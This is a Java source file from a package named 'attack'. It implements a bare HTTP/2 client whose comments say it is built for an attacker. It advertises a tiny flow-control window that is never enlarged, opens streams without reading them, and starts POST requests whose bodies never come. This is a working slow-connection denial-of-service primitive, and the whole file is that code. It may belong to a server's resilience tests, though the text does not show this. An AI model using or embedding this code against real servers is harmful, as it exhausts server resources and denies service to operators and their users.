package plenum.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** As much of HTTP/2 as an attacker needs (RFC 9113, with prior knowledge): it opens streams, and neither reads nor ends anything. */
final class Http2 {
    private static final byte HEADERS = 0x1;
    private static final byte SETTINGS = 0x4;
    private static final byte END_STREAM = 0x1;
    private static final byte END_HEADERS = 0x4;
    private static final short INITIAL_WINDOW_SIZE = 0x4;
    private static final int METHOD_GET = 2;
    private static final int METHOD_POST = 3;
    private static final int PATH = 4;
    private static final int SCHEME_HTTP = 6;
    private static final int AUTHORITY = 1;
    private static final int INDEXED = 0x80;

    private final OutputStream out;
    private int nextStream = 1;

    private Http2(OutputStream out) {
        this.out = out;
    }

    /** @param window how many bytes the server may send on a stream until it is given more, which it never is */
    static Http2 withWindow(Socket socket, int window) throws IOException {
        Http2 connection = new Http2(socket.getOutputStream());
        connection.out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        connection.frame(
                SETTINGS,
                (byte) 0,
                0,
                ByteBuffer.allocate(6)
                        .putShort(INITIAL_WINDOW_SIZE)
                        .putInt(window)
                        .array());
        return connection;
    }

    void get(String authority, String path) throws IOException {
        open(METHOD_GET, authority, path, END_STREAM);
    }

    /** Its body never comes. */
    void beginPost(String authority, String path) throws IOException {
        open(METHOD_POST, authority, path, (byte) 0);
    }

    private void open(int method, String authority, String path, byte end) throws IOException {
        ByteArrayOutputStream headers = new ByteArrayOutputStream();
        headers.write(INDEXED | method);
        headers.write(INDEXED | SCHEME_HTTP);
        literal(headers, AUTHORITY, authority);
        literal(headers, PATH, path);
        frame(HEADERS, (byte) (END_HEADERS | end), nextStream, headers.toByteArray());
        nextStream += 2;
    }

    /** A literal without indexing whose name is in the static table (RFC 7541 section 6.2.2). */
    private static void literal(ByteArrayOutputStream headers, int name, String value) throws IOException {
        headers.write(name);
        headers.write(value.length());
        headers.write(value.getBytes(StandardCharsets.US_ASCII));
    }

    private void frame(byte type, byte flags, int stream, byte[] payload) throws IOException {
        ByteBuffer frame = ByteBuffer.allocate(9 + payload.length);
        frame.put((byte) (payload.length >>> 16)).putShort((short) payload.length);
        frame.put(type).put(flags).putInt(stream).put(payload);
        out.write(frame.array());
        out.flush();
    }
}
